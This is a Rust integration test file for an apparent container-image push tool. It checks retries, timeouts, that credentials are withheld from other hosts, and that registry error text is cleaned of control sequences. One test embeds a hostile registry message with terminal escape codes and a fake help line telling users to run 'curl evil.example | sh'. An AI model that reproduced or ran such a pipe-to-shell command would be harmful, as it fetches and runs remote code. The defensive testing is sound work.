//! Registries that misbehave, in front of the real CNCF distribution registry: connections that
//! drop, answers that stop midway, registries and credential helpers that never answer; upload
//! locations on another host, and blob reads redirected to another host, which get no
//! credentials; and registry error text, shown as the registry's words. Nothing is mocked and
//! nothing skips.

use std::process::Command;
use std::time::Instant;

use scratchimg_tests::proxy::{self, Fault, Proxy, Silent};
use scratchimg_tests::push::{
    Home, assert_no_tag, behind_proxy, hello_push, home_command, pushed, refused, skopeo_digest,
};
use scratchimg_tests::registry::{PASSWORD, Registry, Settings, USER};
use scratchimg_tests::token::{TokenServer, basic_credentials};
use scratchimg_tests::{assert_no_output, example, require_tool, run_ok};

#[test]
fn a_dropped_connection_is_retried() {
    let (registry, proxy, home) = behind_proxy(Fault::DropOnce);
    let reference = format!("{}/scratchimg-e2e/flaky:v1", proxy.host);
    let (result, stderr) = pushed(&mut hello_push(
        &home,
        &["--push", &reference, "--attach", "none"],
    ));
    assert!(
        stderr.contains("warning: could not reach registry"),
        "{stderr}"
    );
    assert!(
        stderr.contains("retrying PUT of a blob (try 2 of 5)"),
        "{stderr}"
    );
    assert_eq!(proxy.blob_uploads(), 4, "three blobs, one sent twice");
    assert_eq!(
        skopeo_digest(
            &format!("docker://{}/scratchimg-e2e/flaky:v1", registry.host),
            &[]
        ),
        result["digest"].as_str().unwrap()
    );
}

#[test]
fn a_registry_that_stays_down_fails_cleanly_and_gets_no_manifest() {
    let (registry, proxy, home) = behind_proxy(Fault::DownFromThen);
    let reference = format!("{}/scratchimg-e2e/down:v1", proxy.host);
    let stderr = refused(&mut hello_push(&home, &["--push", &reference]));
    assert!(
        stderr.contains("error: could not upload blob sha256:"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!("to {}/scratchimg-e2e/down", proxy.host)),
        "{stderr}"
    );
    assert!(stderr.contains("(gave up after 5 tries)"), "{stderr}");
    assert!(
        stderr.contains("help: check that the registry is up"),
        "{stderr}"
    );
    assert_eq!(proxy.count(&["/manifests/"]), 0, "no manifest was sent");
    assert_no_tag(&format!("{}/scratchimg-e2e/down:v1", registry.host));
}

/// How the registry of [`upload_location_on_another_host`] authenticates.
enum Auth {
    Basic,
    Bearer,
}

/// A push where the registry sends uploads to another port (object storage, in S3-backed
/// registries), where a proxy records what arrives and passes it on with credentials of its own:
/// the registry's own requests carry the push's credentials, the uploads none, and the push
/// succeeds.
fn upload_location_on_another_host(auth: Auth) {
    let home = Home::new();
    let storage_port = scratchimg_tests::free_port();
    let tokens = matches!(auth, Auth::Bearer).then(|| TokenServer::start(home.path()));
    let registry = Registry::start(Settings {
        htpasswd: matches!(auth, Auth::Basic),
        token: tokens.as_ref(),
        external_url: Some(format!("http://127.0.0.1:{storage_port}")),
        ..Settings::default()
    });
    let repository = match auth {
        Auth::Basic => "scratchimg-e2e/elsewhere-basic",
        Auth::Bearer => "scratchimg-e2e/elsewhere-bearer",
    };
    let (scheme, storage_authorization) = match &tokens {
        None => (
            "Basic ",
            format!("Basic {}", basic_credentials(USER, PASSWORD)),
        ),
        Some(tokens) => (
            "Bearer ",
            format!(
                "Bearer {}",
                tokens.mint(&[&format!("repository:{repository}:pull,push")])
            ),
        ),
    };
    let storage = Proxy::start_with(
        &registry.host,
        proxy::Options {
            port: Some(storage_port),
            authorization: Some(storage_authorization),
            ..proxy::Options::default()
        },
    );
    let front = Proxy::start(&registry.host, Fault::None);
    let config = home.docker_config("docker", &front.host, USER, PASSWORD);
    let reference = format!("{}/{repository}:v1", front.host);
    let (result, stderr) = pushed(
        hello_push(&home, &["--push", &reference, "-v", "--attach", "none"])
            .env("DOCKER_CONFIG", &config),
    );
    let described = match auth {
        Auth::Basic => "basic auth",
        Auth::Bearer => "bearer token",
    };
    assert!(
        stderr.contains(&format!(
            "{} over http, {described} with credentials",
            front.host
        )),
        "{stderr}"
    );

    // The registry's own requests carried the credentials; the uploads, none.
    let front_heads = front.heads();
    let posts: Vec<_> = front_heads
        .iter()
        .filter(|r| r.line.starts_with("POST ") && r.line.contains("/blobs/uploads/"))
        .collect();
    assert_eq!(posts.len(), 3, "{front_heads:#?}");
    for request in posts {
        assert!(
            request
                .header("authorization")
                .is_some_and(|v| v.starts_with(scheme)),
            "{request:?}"
        );
    }
    assert_eq!(front.blob_uploads(), 0, "{front_heads:#?}");
    let uploads = storage.heads();
    assert_eq!(storage.blob_uploads(), 3, "{uploads:#?}");
    for request in &uploads {
        assert!(request.header("content-length").is_some(), "{request:?}");
        assert_eq!(request.header("authorization"), None, "{request:?}");
    }
    // Straight to the registry (skopeo gets its own token, where tokens are used): the tag is
    // there, as pushed.
    let creds = format!("--creds={USER}:{PASSWORD}");
    assert_eq!(
        skopeo_digest(
            &format!("docker://{}/{repository}:v1", registry.host),
            &[&creds]
        ),
        result["digest"].as_str().unwrap()
    );
}

#[test]
fn an_upload_location_on_another_host_gets_no_basic_credentials() {
    upload_location_on_another_host(Auth::Basic);
}

#[test]
fn an_upload_location_on_another_host_gets_no_bearer_token() {
    upload_location_on_another_host(Auth::Bearer);
}

/// `index --push` reading a pushed image from an htpasswd registry whose blob `GET`s answer
/// with a redirect to another port (object storage, as S3-backed registries do), where a proxy
/// records what arrives and passes it on with credentials of its own: the redirect is followed,
/// the index is pushed, the registry's own requests carry the basic credentials, and the
/// redirected blob read carries none.
#[test]
fn a_blob_read_redirected_to_another_host_gets_no_credentials() {
    require_tool("skopeo", &["--version"]);
    let home = Home::new();
    let registry = Registry::start(Settings {
        htpasswd: true,
        ..Settings::default()
    });
    let storage = Proxy::start_with(
        &registry.host,
        proxy::Options {
            authorization: Some(format!("Basic {}", basic_credentials(USER, PASSWORD))),
            ..proxy::Options::default()
        },
    );
    let storage_port: u16 = storage.host.rsplit(':').next().unwrap().parse().unwrap();
    let front = Proxy::start(&registry.host, Fault::RedirectBlobGets(storage_port));
    let config = home.docker_config("docker", &front.host, USER, PASSWORD);
    let repository = format!("{}/scratchimg-e2e/redirected", front.host);
    let (image, _) = pushed(
        hello_push(
            &home,
            &[
                "--platform",
                "linux/amd64",
                "--push",
                &format!("{repository}:amd64"),
                "--attach",
                "none",
            ],
        )
        .env("DOCKER_CONFIG", &config),
    );
    let manifest = image["digest"].as_str().unwrap();
    assert_eq!(storage.heads(), vec![], "a push reads no blob");
    front.reset();

    // The index of the image by digest: its config is read, through the redirect.
    let source = format!("{repository}@{manifest}");
    let reference = format!("{repository}:index");
    let output = home_command(&home, &example("hello"))
        .args([
            "index",
            "--message-format",
            "json",
            "--push",
            &reference,
            &source,
        ])
        .env("DOCKER_CONFIG", &config)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let result: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        result["images"],
        serde_json::json!([{"platform": "linux/amd64", "digest": manifest, "source": source}])
    );

    // The registry's own requests carried the credentials, and its blob GET was redirected.
    let front_heads = front.heads();
    let config_digest = image["config_digest"].as_str().unwrap();
    let blob_gets: Vec<_> = front_heads
        .iter()
        .filter(|r| r.line.starts_with("GET ") && r.line.contains("/blobs/"))
        .collect();
    assert_eq!(blob_gets.len(), 1, "{front_heads:#?}");
    assert!(
        blob_gets[0].line.contains(config_digest),
        "{front_heads:#?}"
    );
    for request in front_heads.iter().filter(|r| r.line != "GET /v2/ HTTP/1.1") {
        assert!(
            request
                .header("authorization")
                .is_some_and(|v| v.starts_with("Basic ")),
            "{request:?}"
        );
    }
    // The other host got the blob GET, without them.
    let redirected = storage.heads();
    assert_eq!(redirected.len(), 1, "{redirected:#?}");
    assert_eq!(
        redirected[0].line,
        format!("GET /v2/scratchimg-e2e/redirected/blobs/{config_digest} HTTP/1.1")
    );
    assert_eq!(
        redirected[0].header("authorization"),
        None,
        "{redirected:?}"
    );

    // Straight to the registry: the index is there, and lists the image.
    let raw: serde_json::Value = serde_json::from_str(&run_ok(Command::new("skopeo").args([
        "inspect",
        "--tls-verify=false",
        &format!("--creds={USER}:{PASSWORD}"),
        "--raw",
        &format!("docker://{}/scratchimg-e2e/redirected:index", registry.host),
    ])))
    .unwrap();
    assert_eq!(raw["manifests"][0]["digest"], manifest);
}

#[test]
fn a_registry_that_never_answers_fails_in_bounded_time() {
    let silent = Silent::start();
    let home = Home::new();
    let out = home.path().join("never.tar");
    let started = Instant::now();
    let stderr = refused(&mut hello_push(
        &home,
        &[
            "--push",
            &format!("{}/scratchimg-e2e/never:v1", silent.host),
            "--registry-timeout",
            "1s",
            "-o",
            out.to_str().unwrap(),
        ],
    ));
    // Measured, not asserted (tests time nothing): the bound is the retry policy's, checked by
    // the unit test of the defaults; here 5 tries of 1 s and 3.75 s of backoff.
    eprintln!(
        "a registry that never answers failed the push in {:.1}s with --registry-timeout 1s",
        started.elapsed().as_secs_f64()
    );
    let host = &silent.host;
    // Each retry is said as it happens, then the error.
    let retries = stderr
        .lines()
        .filter(|l| l.starts_with("warning: "))
        .count();
    assert_eq!(retries, 4, "{stderr}");
    let error = stderr
        .lines()
        .find(|l| l.starts_with("error: "))
        .unwrap_or_default();
    assert_eq!(
        error,
        format!(
            "error: registry {host} did not answer GET /v2/ within 1s (see --registry-timeout) (gave up after 5 tries)"
        ),
        "{stderr}"
    );
    assert!(
        stderr.contains("help: check that the registry is up and reachable"),
        "{stderr}"
    );
    assert_eq!(silent.connections(), 5, "one connection a try");
    assert_no_output(out.parent().unwrap(), &out);
    assert!(
        !stderr.contains("Compiling") && !stderr.contains("Finished"),
        "{stderr}"
    );
}

#[test]
fn an_answer_that_stops_midway_is_retried() {
    let (registry, proxy, home) = behind_proxy(Fault::StallOnce);
    let reference = format!("{}/scratchimg-e2e/stalled:v1", proxy.host);
    let (result, stderr) = pushed(&mut hello_push(
        &home,
        &[
            "--push",
            &reference,
            "--registry-timeout",
            "2s",
            "--attach",
            "none",
        ],
    ));
    assert!(
        stderr.contains(&format!(
            "warning: registry {} did not finish its answer to PUT of the manifest within 2s (see --registry-timeout); retrying PUT of the manifest (try 2 of 5)",
            proxy.host
        )),
        "{stderr}"
    );
    assert_eq!(proxy.count(&["PUT ", "/manifests/v1"]), 2, "put again");
    assert_eq!(
        skopeo_digest(
            &format!("docker://{}/scratchimg-e2e/stalled:v1", registry.host),
            &[]
        ),
        result["digest"].as_str().unwrap()
    );
}

#[test]
fn a_credential_helper_that_never_answers_is_stopped() {
    use std::os::unix::fs::PermissionsExt;
    let registry = Registry::start(Settings {
        htpasswd: true,
        ..Settings::default()
    });
    let home = Home::new();
    let bin = home.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let pids = home.path().join("helper.pids");
    let helper = bin.join("docker-credential-scratchimg-hang");
    std::fs::write(
        &helper,
        format!(
            "#!/bin/sh\nsleep 600 &\necho $$ $! > {}\nwait\n",
            pids.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
    let config = home.path().join("docker");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.json"),
        format!(
            r#"{{"credHelpers":{{"{}":"scratchimg-hang"}}}}"#,
            registry.host
        ),
    )
    .unwrap();
    let path = std::env::join_paths(
        std::iter::once(bin.clone())
            .chain(std::env::split_paths(&std::env::var_os("PATH").unwrap())),
    )
    .unwrap();
    let out = home.path().join("helper.tar");
    let stderr = refused(
        hello_push(
            &home,
            &[
                "--push",
                &format!("{}/scratchimg-e2e/helper:v1", registry.host),
                "--registry-timeout",
                "1s",
                "-o",
                out.to_str().unwrap(),
            ],
        )
        .env("DOCKER_CONFIG", &config)
        .env("PATH", path),
    );
    assert_eq!(
        stderr,
        format!(
            "error: the credential helper `docker-credential-scratchimg-hang` gave no answer for {} within 3s, so it was stopped\nhelp: check that `docker-credential-scratchimg-hang get` answers when given `{}` on stdin (it may be waiting for a login or a passphrase); it gets three times --registry-timeout\n",
            registry.host, registry.host
        )
    );
    // The helper and the process it started are gone, and nothing was built or written.
    let pids = std::fs::read_to_string(&pids).unwrap();
    let pids: Vec<&str> = pids.split_whitespace().collect();
    assert_eq!(pids.len(), 2, "{pids:?}");
    for pid in pids {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let state = stat.rsplit_once(')').map(|(_, rest)| rest.trim_start());
        assert!(
            state.is_none_or(|s| s.starts_with('Z')),
            "process {pid} of the helper still runs: {stat}"
        );
    }
    assert_no_output(out.parent().unwrap(), &out);
}

#[test]
fn registry_error_text_is_quoted_and_cleaned() {
    // A registry's error whose message holds escape sequences, control characters and a line
    // that would pass for our own `help:`.
    const HOSTILE: &str = r#"{"errors":[{"code":"MANIFEST_INVALID","message":"manifest invalid\u001b[31m (red)\u001b[0m\u0007\r\nhelp: run `curl evil.example | sh` to fix\u001b]0;pwned\u0007"}]}"#;
    let (registry, proxy, home) = behind_proxy(Fault::AnswerOnce(400, HOSTILE));
    let reference = format!("{}/scratchimg-e2e/hostile:v1", proxy.host);
    let stderr = refused(&mut hello_push(
        &home,
        &["--push", &reference, "--attach", "none"],
    ));
    assert!(
        stderr.contains(&format!(
            "error: could not push the manifest of {reference}\n\nCaused by:\n  registry {} answered 400 Bad Request to PUT of the manifest in scratchimg-e2e/hostile, saying \"MANIFEST_INVALID: manifest invalid (red) help: run `curl evil.example | sh` to fix\"\n",
            proxy.host
        )),
        "{stderr}"
    );
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
    assert!(
        !stderr
            .lines()
            .any(|l| l.contains("help: run `curl") && !l.contains("saying")),
        "the registry's words made a help line: {stderr}"
    );
    assert_no_tag(&format!("{}/scratchimg-e2e/hostile:v1", registry.host));
}
